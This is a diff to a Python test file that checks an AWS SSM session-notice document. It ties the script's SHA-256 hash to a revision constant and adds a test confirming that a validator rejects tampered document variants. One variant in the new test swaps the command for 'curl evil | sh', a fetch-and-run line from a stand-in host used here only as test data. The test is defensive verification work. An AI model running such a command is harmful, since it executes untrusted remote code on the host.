@@ -11,15 +11,12 @@ import pytest
 import yaml
 
 from tests.notice_script import COMMAND, SCRIPT, TEMPLATES, with_script
-from warden.adapters.notices import MEMBER_DOCUMENT_REVISION, member_document
+from warden.adapters.notices import MEMBER_DOCUMENT_REVISION, NOTICE_SCRIPT_SHA256, document_problem, member_document
 from warden_local.stack import load_template
 
 ROOT = Path(__file__).resolve().parents[2]
 CENTRAL = load_template(ROOT / "template.yaml")
 MEMBER = load_template(ROOT / "org" / "member.yaml")
-# The script of each revision of the member document's name. CloudFormation replaces an AWS::SSM::Document on every
-# change and cannot replace one whose name stays the same: a changed script needs the next revision.
-SCRIPT_OF_REVISION = {"1": "155f8c5da80c164a313a8f06a2a19ed042907526b258a466008c6d6f58b2e61e"}
 
 
 def _document(template: dict[str, Any]) -> dict[str, Any]:
@@ -61,12 +58,39 @@ def test_the_copy_command_puts_a_changed_script_into_the_document_and_nothing_el
 
 def test_a_changed_script_needs_the_next_revision_of_the_member_documents_name() -> None:
     digest = hashlib.sha256(SCRIPT.read_bytes()).hexdigest()
-    assert SCRIPT_OF_REVISION.get(MEMBER_DOCUMENT_REVISION) == digest, (
+    assert digest == NOTICE_SCRIPT_SHA256, (
         "functions/sweeper/session_notice.sh changed: CloudFormation cannot replace the member stack's document under "
-        "the same name. Raise MEMBER_DOCUMENT_REVISION (layers/warden/warden/adapters/notices.py) and the "
-        "-session-notice-N suffix in org/member.yaml (WarningDocument, MemberRole) and template.yaml "
-        f"(OrgCentralRegionsWarningsPolicy), then add {{'N': '{digest}'}} to SCRIPT_OF_REVISION here"
+        "the same name. In layers/warden/warden/adapters/notices.py set NOTICE_SCRIPT_SHA256 to "
+        f"'{digest}' and raise MEMBER_DOCUMENT_REVISION; raise the -session-notice-N suffix in org/member.yaml "
+        f"(WarningDocument, MemberRole) and template.yaml (tamper pattern, OrgCentralRegionsWarningsPolicy); run {COMMAND}"
     )
+
+
+def test_the_sweeper_trusts_the_templates_document_and_nothing_that_runs_more_or_takes_other_parameters() -> None:
+    content = _document(MEMBER)["Content"]
+    assert document_problem(content) is None
+    assert document_problem(_document(CENTRAL)["Content"]) is None
+    (step,) = content["mainSteps"]
+    replaced = {
+        "another script": {**content, "mainSteps": [{**step, "inputs": {"runCommand": ["curl evil | sh"]}}]},
+        "two steps": {**content, "mainSteps": [step, step]},
+        "a step that is not a shell script": {**content, "mainSteps": [{**step, "action": "aws:runPowerShellScript"}]},
+        "text parameters": {
+            **content,
+            "parameters": {name: {**p, "interpolationType": ""} for name, p in content["parameters"].items()},
+        },
+        "a wider pattern": {
+            **content,
+            "parameters": {
+                **content["parameters"],
+                "Message": {**content["parameters"]["Message"], "allowedPattern": ".*"},
+            },
+        },
+        "another parameter": {**content, "parameters": {**content["parameters"], "Extra": {"type": "String"}}},
+    }
+    for what, document in replaced.items():
+        assert document_problem(document) is not None, what
+    assert document_problem("schemaVersion: 2.2") == "its content is not a document"
 
 
 def test_the_member_document_is_named_as_the_sweeper_and_both_roles_name_it() -> None:
